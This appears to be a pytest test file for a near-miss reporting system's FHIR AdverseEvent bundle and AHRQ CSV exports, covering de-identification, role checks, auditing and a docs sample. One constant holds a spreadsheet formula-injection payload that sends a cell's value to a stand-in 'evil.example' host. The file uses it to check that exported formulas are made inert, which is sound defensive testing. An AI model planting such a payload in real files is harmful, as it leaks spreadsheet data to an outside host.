"""Standard exports (issue 20, point 3): FHIR R4 AdverseEvent bundles and the AHRQ-aligned CSV.

The bundle is parsed back with fhir.resources; near misses are potential events; nobody
supported is identified unless asked; every taxonomy type is mapped; the CSV carries the AHRQ
event type, the barrier and the harm scale, with formulas made inert; only quality leads and
administrators may export, and every export is audited. The docs' sample bundle is rebuilt from
made-up events and must match the file (NEARMISS_UPDATE_SAMPLES=1 rewrites it).
"""

from __future__ import annotations

import csv
import io
import json
import os
from datetime import datetime, timedelta
from pathlib import Path

import pytest
from fhir.resources.R4B.bundle import Bundle
from sqlalchemy import select
from typer.testing import CliRunner

from core.audit.models import AuditEvent
from core.auth.actor import SYSTEM
from core.clock import utcnow
from core.commissioner.period import parse_period
from core.config import Settings, settings
from core.db import read_session
from core.errors import PermissionDenied
from core.exports.ahrq import COLUMNS, PERSON_COLUMNS, ahrq_csv
from core.exports.fhir import bundle_json, check_bundle
from core.exports.standards import (
    PersonInfo,
    StandardEvent,
    StandardsMapping,
    export_standard,
    load_standards,
)
from core.filing.service import file_near_miss
from core.organisation import service as organisation
from core.reports.vocabulary import Barrier, ReportStatus
from core.taxonomy.service import load_taxonomy_file
from core.triage.service import TriageAnswers, reclassify_as_incident, triage_report
from core.triage.vocabulary import Severity
from core.uow import UnitOfWork
from core.yamlfile import ConfigFileError
from ops.cli import app
from tests.builders import build_org, draft, local_now
from tests.conftest import ROOT, built_once

SAMPLE = ROOT / "docs" / "samples" / "fhir-bundle-sample.json"
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
runner = CliRunner(env={"COLUMNS": "200"})


@pytest.fixture
def org(engine, db_url: str):
    return built_once("org", db_url, build_org)  # built once, copied per test


def _period():
    today = local_now().date()
    return parse_period(f"{today - timedelta(days=40)}..{today}")


def _file(engine, org, **changes):
    return file_near_miss(UnitOfWork(engine), org.actor("reporter"), draft(org, **changes),
                          now=utcnow(), rules=settings())


def _version(engine, reference):
    from core.reports.models import NearMissReport

    with read_session(engine) as session:
        return session.scalar(select(NearMissReport.version_id)
                              .where(NearMissReport.reference == reference))


def _triage(engine, org, reference, severity):
    triage_report(UnitOfWork(engine), org.actor("supervisor"), reference, TriageAnswers(
        at_risk_now=False, safeguarding_trigger=False, recurrence="single", severity=severity,
        investigation="barrier_review", route="supervisor"),
        expected_version=_version(engine, reference), now=utcnow(), rules=settings())


def _reports(engine, org):
    """A near fall naming a person (triaged high), a medication discrepancy, an unsafe
    condition (no person), and a near fall re-classified as an incident."""
    now = local_now()
    fall = _file(engine, org, person_id=org.maple_person, occurred_at=now - timedelta(days=3))
    _triage(engine, org, fall.reference, "high")
    medication = _file(engine, org, type_key="medication_discrepancy", barrier="designed_control",
                       location_id=org.maple_kitchen, occurred_at=now - timedelta(days=2))
    hazard = _file(engine, org, type_key="environment_equipment", barrier="chance",
                   occurred_at=now - timedelta(days=1))
    incident = _file(engine, org, barrier="person_or_family", person_id=org.maple_person,
                     occurred_at=now - timedelta(hours=5))
    reclassify_as_incident(UnitOfWork(engine), org.actor("supervisor"), incident.reference,
                           reason="A bruise was found the next morning.",
                           expected_version=_version(engine, incident.reference),
                           now=utcnow(), rules=settings())
    return {"fall": fall.reference, "medication": medication.reference,
            "hazard": hazard.reference, "incident": incident.reference}


def _events_by_reference(bundle: Bundle) -> dict[str, object]:
    return {entry.resource.identifier[0].value if isinstance(entry.resource.identifier, list)
            else entry.resource.identifier.value: entry.resource
            for entry in bundle.entry if entry.resource.get_resource_type() == "AdverseEvent"}


def _resources(bundle: Bundle, name: str) -> dict[str, object]:
    return {entry.fullUrl: entry.resource for entry in bundle.entry
            if entry.resource.get_resource_type() == name}


def _codes(concepts) -> dict[str, str]:
    return {coding.system.rsplit("/", 1)[-1]: coding.code
            for concept in concepts for coding in concept.coding}


# --------------------------------------------------------------------------- FHIR


def test_the_bundle_parses_back_with_fhir_resources_and_near_misses_are_potential(engine, org):
    refs = _reports(engine, org)
    done = export_standard(engine, org.actor("quality"), "fhir", _period(), rules=settings(),
                           now=utcnow())
    assert done.events == 4 and done.media_type == "application/fhir+json"

    # Parsed back by fhir.resources (the R4B models, the same as R4 for these resources).
    bundle = Bundle.model_validate_json(done.content)
    checked = check_bundle(done.content)
    assert bundle.type == "collection"
    assert checked.counts == {"AdverseEvent": 4, "Location": 2, "Organization": 2, "Group": 1}
    assert checked.summary().startswith("collection, 9 entries: AdverseEvent 4")

    events = _events_by_reference(bundle)
    assert set(events) == set(refs.values())
    assert {ref: events[ref].actuality for ref in refs.values()} == {
        refs["fall"]: "potential", refs["medication"]: "potential",
        refs["hazard"]: "potential", refs["incident"]: "actual"}

    fall = events[refs["fall"]]
    categories = _codes(fall.category)
    assert categories == {"ahrq-event-type": "near_miss", "ahrq-event-category": "fall"}
    assert fall.event.coding[0].code == "transfer_near_fall"
    assert fall.event.text == "Transfer / near fall"
    assert fall.seriousness.coding[0].code == "Serious"
    assert fall.severity.coding[0].code == "severe"
    assert str(fall.date).endswith(("-04:00", "-05:00"))  # New York time, with its offset
    barrier = fall.extension[0].valueCodeableConcept
    assert barrier.coding[0].code == "staff_recovery" and barrier.text == "Staff recovery"

    medication = events[refs["medication"]]
    assert _codes(medication.category) == {
        "ahrq-event-type": "near_miss", "ahrq-event-category": "medication",
        "adverse-event-category": "product-use-error"}
    assert medication.seriousness is None  # not triaged: no severity potential yet
    assert _codes(events[refs["hazard"]].category)["ahrq-event-type"] == "unsafe_condition"
    assert _codes(events[refs["incident"]].category)["ahrq-event-type"] == "incident"

    locations = _resources(bundle, "Location")
    assert locations[medication.location.reference].name == "Kitchen"
    assert locations[fall.location.reference].name == "Bathroom doorway"
    services = _resources(bundle, "Organization")
    managing = locations[fall.location.reference].managingOrganization.reference
    assert services[managing].name == "Maple House"
    assert services[services[managing].partOf.reference].name == "Test Care Provider"


def test_nobody_is_identified_unless_the_option_allows_it(engine, org):
    refs = _reports(engine, org)
    quality = org.actor("quality")

    plain = export_standard(engine, quality, "fhir", _period(), rules=settings(), now=utcnow())
    text = plain.content.decode()
    assert "MH-01" not in text and "Alex Example" not in text
    assert "reporter" not in text.lower()  # nor who reported it
    bundle = Bundle.model_validate_json(plain.content)
    groups = _resources(bundle, "Group")
    assert not _resources(bundle, "Patient")
    (group,) = groups.values()
    assert group.actual is False and group.type == "person" and not group.member
    assert {e.subject.reference for e in _events_by_reference(bundle).values()} == set(groups)

    named = export_standard(engine, quality, "fhir", _period(), include_person=True,
                            rules=settings(), now=utcnow())
    bundle = Bundle.model_validate_json(named.content)
    check_bundle(named.content)
    patients = _resources(bundle, "Patient")
    (patient,) = patients.values()  # one person, on two reports
    assert patient.identifier[0].value == "MH-01" and patient.name[0].text == "Alex Example"
    events = _events_by_reference(bundle)
    assert events[refs["fall"]].subject.reference in patients
    assert events[refs["incident"]].subject.reference in patients
    # A report naming nobody still points at the de-identified group.
    assert events[refs["medication"]].subject.reference in _resources(bundle, "Group")


def test_every_taxonomy_type_barrier_and_severity_is_mapped():
    mapping = load_standards(ROOT / "data" / "standards.yaml")
    taxonomy = load_taxonomy_file(ROOT / "data" / "taxonomy.yaml")
    missing = [t.key for t in taxonomy.types if t.key not in mapping.types]
    assert not missing, f"add these types to data/standards.yaml: {missing}"
    unknown = set(mapping.types) - {t.key for t in taxonomy.types}
    assert not unknown, f"data/standards.yaml maps types the taxonomy lacks: {unknown}"
    assert set(mapping.barriers) == {b.value for b in Barrier}
    assert set(mapping.severities) == {s.value for s in Severity}


def test_a_mapping_file_missing_a_barrier_is_refused_naming_it(tmp_path):
    text = (ROOT / "data" / "standards.yaml").read_text(encoding="utf-8")
    broken = tmp_path / "standards.yaml"
    broken.write_text(text.replace("  chance: {ahrq: Chance", "  luck: {ahrq: Chance"),
                      encoding="utf-8")
    with pytest.raises(ConfigFileError, match="barriers: add chance"):
        load_standards(broken)
    broken.write_text(text.replace("transfer_near_fall: {ahrq_category: fall}",
                                   "transfer_near_fall: {ahrq_category: falls}"),
                      encoding="utf-8")
    with pytest.raises(ConfigFileError, match="transfer_near_fall"):
        load_standards(broken)


# --------------------------------------------------------------------------- AHRQ CSV


def _read_csv(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    table = data.decode("utf-8-sig").split("\r\n\r\n")[0]  # the notes follow an empty line
    return list(csv.DictReader(io.StringIO(table, newline="")))


def test_the_ahrq_csv_columns_event_types_barriers_and_harm_scale(engine, org):
    refs = _reports(engine, org)
    done = export_standard(engine, org.actor("admin"), "ahrq-csv", _period(), rules=settings(),
                           now=utcnow())
    assert done.media_type == "text/csv"
    rows = {row["Reference"]: row for row in _read_csv(done.content)}
    assert list(next(iter(rows.values()))) == list(COLUMNS)
    assert set(rows) == set(refs.values())

    fall = rows[refs["fall"]]
    assert fall["Event type (AHRQ)"] == "Near miss"
    assert fall["Event category (AHRQ)"] == "Fall"
    assert fall["Near-miss type"] == "Transfer / near fall"
    assert fall["Service"] == "Maple House" and fall["Location"] == "Bathroom doorway"
    assert fall["Harm scale (AHRQ)"] == "Not applicable: did not reach the person"
    assert fall["Harm scale LOINC answer"] == "" and fall["Severity potential"] == "High"
    assert fall["Event date"] == (local_now() - timedelta(days=3)).date().isoformat()

    # The portal's barrier field answers "what stopped the event reaching the person".
    stopped = {name: rows[ref]["What stopped the event reaching the person"]
               for name, ref in refs.items()}
    assert stopped == {"fall": "Staff recovery", "medication": "A designed control",
                       "hazard": "Chance", "incident": "The person or family"}
    assert rows[refs["hazard"]]["Event type (AHRQ)"] == "Unsafe condition"
    incident = rows[refs["incident"]]
    assert incident["Event type (AHRQ)"] == "Incident"
    assert incident["Harm scale (AHRQ)"] == "Unknown"
    assert incident["Harm scale LOINC answer"] == "LA4489-6"
    assert incident["Status"] == ReportStatus.RECLASSIFIED.label
    assert "MH-01" not in done.content.decode("utf-8-sig")
    assert b"docs/STANDARDS.md" in done.content  # the notes at the foot

    named = export_standard(engine, org.actor("quality"), "ahrq-csv", _period(),
                            include_person=True, rules=settings(), now=utcnow())
    rows = {row["Reference"]: row for row in _read_csv(named.content)}
    assert list(next(iter(rows.values()))) == list(COLUMNS + PERSON_COLUMNS)
    assert rows[refs["fall"]]["Person supported (local reference)"] == "MH-01"
    assert rows[refs["medication"]]["Person supported (local reference)"] == ""


def test_formulas_in_names_are_made_inert_in_the_csv(engine, org):
    with UnitOfWork(engine) as uow:
        place = organisation.get_or_create_location(uow, SYSTEM, org.maple, HYPERLINK, now=utcnow())
        uow.commit()
    _file(engine, org, location_id=place)
    done = export_standard(engine, org.actor("quality"), "ahrq-csv", _period(), rules=settings(),
                           now=utcnow())
    (row,) = _read_csv(done.content)
    assert row["Location"] == "'" + HYPERLINK
    # JSON is not a spreadsheet: the bundle keeps the name exactly as typed.
    bundle = Bundle.model_validate_json(
        export_standard(engine, org.actor("quality"), "fhir", _period(), rules=settings(),
                        now=utcnow()).content)
    assert [loc.name for loc in _resources(bundle, "Location").values()] == [HYPERLINK]


def test_an_empty_period_gives_a_header_and_an_empty_bundle(engine, org):
    period = parse_period("2001-01")
    rows = _read_csv(export_standard(engine, org.actor("quality"), "ahrq-csv", period,
                                     rules=settings(), now=utcnow()).content)
    assert rows == []
    content = export_standard(engine, org.actor("quality"), "ahrq-csv", period,
                              rules=settings(), now=utcnow()).content
    assert content.decode("utf-8-sig").splitlines()[0].split(",")[:2] == ["Reference",
                                                                          "Event date"]
    assert check_bundle(export_standard(engine, org.actor("quality"), "fhir",
                                        period,
                                        rules=settings(),
                                        now=utcnow()).content).counts == {"Organization": 1}


# --------------------------------------------------------------------------- roles and audit


@pytest.mark.parametrize("role", ["reporter", "supervisor", "safeguarding", "clinical",
                                  "operations", "governance", "commissioner"])
def test_roles_without_the_capability_are_refused_in_core(engine, org, role):
    _file(engine, org)
    with read_session(engine) as session:
        before = session.scalar(select(AuditEvent.seq).order_by(AuditEvent.seq.desc()).limit(1))
    for output_format in ("fhir", "ahrq-csv"):
        with pytest.raises(PermissionDenied):
            export_standard(engine, org.actor(role), output_format, _period(), rules=settings(),
                            now=utcnow())
    with read_session(engine) as session:
        after = session.scalar(select(AuditEvent.seq).order_by(AuditEvent.seq.desc()).limit(1))
    assert after == before  # nothing exported, nothing recorded


def test_every_standard_export_is_audited(engine, org):
    _file(engine, org, person_id=org.maple_person)
    export_standard(engine, org.actor("quality"), "fhir", _period(), file_name="q.json",
                    rules=settings(), now=utcnow())
    export_standard(engine, org.actor("admin"), "ahrq-csv", _period(), include_person=True,
                    rules=settings(), now=utcnow())
    with read_session(engine) as session:
        events = session.scalars(select(AuditEvent).where(
            AuditEvent.action == "commissioner.exported").order_by(AuditEvent.seq)).all()
    assert [(e.actor, e.entity_id.split(":")[:2]) for e in events] == [
        ("quality", ["standard", "fhir"]), ("admin", ["standard", "ahrq-csv"])]
    first, second = (json.loads(e.after_json) for e in events)
    assert first["events"] == 1 and first["include_person"] is False
    assert first["file"] == "q.json" and first["roles"] == ["quality"]
    assert second["include_person"] is True and second["format"] == "ahrq-csv"


# --------------------------------------------------------------------------- command line


def test_the_export_command_writes_both_formats_and_names_people_only_when_asked(
        engine, org, tmp_path):
    _reports(engine, org)
    period = _period()
    span = f"{period.start}..{period.end - timedelta(days=1)}"
    out = tmp_path / "bundle.json"
    result = runner.invoke(app, ["export", "--format", "fhir", "--period", span,
                                 "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert "Wrote 4 reports" in result.output
    assert check_bundle(out.read_bytes()).counts["AdverseEvent"] == 4
    assert "MH-01" not in out.read_text(encoding="utf-8")

    result = runner.invoke(app, ["export", "--format", "fhir", "--period", span,
                                 "--out", str(out), "--include-person"])
    assert result.exit_code == 0, result.output
    assert "naming people supported" in result.output
    assert "MH-01" in out.read_text(encoding="utf-8")

    csv_out = tmp_path / "ahrq.csv"
    result = runner.invoke(app, ["export", "--format", "ahrq-csv", "--period", span,
                                 "--out", str(csv_out)])
    assert result.exit_code == 0, result.output
    assert len(_read_csv(csv_out.read_bytes())) == 4

    result = runner.invoke(app, ["export", "--format", "hl7v2", "--period", span,
                                 "--out", str(csv_out)])
    assert result.exit_code == 2 and "fhir or ahrq-csv" in result.output
    with read_session(engine) as session:
        audited = session.scalars(select(AuditEvent.entity_id).where(
            AuditEvent.action == "commissioner.exported")).all()
    assert sorted(e.split(":")[1] for e in audited) == ["ahrq-csv", "fhir", "fhir"]


# --------------------------------------------------------------------------- the docs' sample


SAMPLE_RULES = Settings(provider_name="Example Care Co", timezone="America/New_York")


def sample_events() -> list[StandardEvent]:
    """Made-up reports (no real names): the source of docs/samples/fhir-bundle-sample.json."""
    def at(day: int, hour: int) -> datetime:
        return datetime(2026, 7, day, hour, 15)  # naive UTC, as stored

    common = {"service_id": 1, "service_name": "Birch Court", "service_active": True,
              "location_active": True}
    return [
        StandardEvent(reference="NM-2026-00101", type_key="transfer_near_fall",
                      type_name="Transfer / near fall", occurred_at=at(6, 13),
                      reported_at=at(6, 14), location_id=11, location_name="Bathroom doorway",
                      barrier=Barrier.STAFF_RECOVERY, severity=Severity.HIGH,
                      status=ReportStatus.TRIAGED, names_a_person=True, person=None, **common),
        StandardEvent(reference="NM-2026-00102", type_key="medication_discrepancy",
                      type_name="Medication discrepancy", occurred_at=at(8, 12),
                      reported_at=at(8, 12), location_id=12, location_name="Medication room",
                      barrier=Barrier.DESIGNED_CONTROL, severity=Severity.MEDIUM,
                      status=ReportStatus.IN_REVIEW, names_a_person=True, person=None, **common),
        StandardEvent(reference="NM-2026-00103", type_key="environment_equipment",
                      type_name="Environment / equipment", occurred_at=at(9, 16),
                      reported_at=at(9, 17), location_id=13, location_name="Laundry",
                      barrier=Barrier.CHANCE, severity=None, status=ReportStatus.NEW,
                      names_a_person=False, person=None, **common),
        StandardEvent(reference="NM-2026-00104", type_key="transfer_near_fall",
                      type_name="Transfer / near fall", occurred_at=at(14, 20),
                      reported_at=at(15, 9), location_id=11, location_name="Bathroom doorway",
                      barrier=Barrier.PERSON_OR_FAMILY, severity=Severity.MEDIUM,
                      status=ReportStatus.RECLASSIFIED, names_a_person=True, person=None,
                      **common),
    ]


def test_the_docs_sample_bundle_is_current_and_validates():
    mapping: StandardsMapping = load_standards(ROOT / "data" / "standards.yaml")
    content = bundle_json(sample_events(), mapping, period=parse_period("2026-07"),
                          rules=SAMPLE_RULES, now=datetime(2026, 8, 1, 12, 0))
    if os.environ.get("NEARMISS_UPDATE_SAMPLES"):
        SAMPLE.parent.mkdir(parents=True, exist_ok=True)
        SAMPLE.write_bytes(content)
    assert SAMPLE.read_bytes() == content, "run with NEARMISS_UPDATE_SAMPLES=1 to rewrite it"
    checked = check_bundle(Path(SAMPLE).read_bytes())
    assert checked.summary() == ("collection, 10 entries: AdverseEvent 4, Location 3, "
                                 "Organization 2, Group 1")
    # A person placeholder only: the made-up events carry no person at all.
    assert "Patient" not in checked.counts
    # The file says exactly what fhir.resources' own serialiser would write (order aside).
    assert json.loads(content) == json.loads(checked.bundle.model_dump_json())
    # The AHRQ CSV of the same events opens with its header and one row each.
    rows = _read_csv(ahrq_csv(sample_events(), mapping, period=parse_period("2026-07"),
                              rules=SAMPLE_RULES))
    assert [r["Event type (AHRQ)"] for r in rows] == ["Near miss", "Near miss",
                                                      "Unsafe condition", "Incident"]


def test_a_person_placeholder_is_replaced_only_with_the_option():
    mapping = load_standards(ROOT / "data" / "standards.yaml")
    event = sample_events()[0]
    named = StandardEvent(**{**event.__dict__,
                             "person": PersonInfo(7, "BC-07", "Sam Sample")})
    content = bundle_json([named], mapping, period=parse_period("2026-07"), rules=SAMPLE_RULES,
                          include_person=True, now=utcnow())
    assert check_bundle(content).counts["Patient"] == 1
    # Without the option a person read by mistake is still left out.
    content = bundle_json([named], mapping, period=parse_period("2026-07"), rules=SAMPLE_RULES,
                          now=utcnow())
    assert b"BC-07" not in content and b"Sam Sample" not in content
